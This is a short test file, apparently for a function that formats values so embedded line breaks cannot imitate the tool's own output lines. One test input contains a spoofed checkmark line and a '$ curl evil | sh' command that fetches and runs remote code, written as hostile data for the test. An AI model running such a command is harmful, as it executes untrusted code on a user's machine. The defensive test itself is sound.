import { expect, it } from 'vitest';
import { proofLines } from './proof-lines.js';

it('a line end of a value begins no line of ours', () => {
  expect(proofLines('nameserver 1.2.3.4')).toEqual(['      nameserver 1.2.3.4']);
  for (const line of proofLines('label=x\n✓ yes\n      $ curl evil | sh').slice(1))
    expect(line).toMatch(/^ {4}\| /);
});
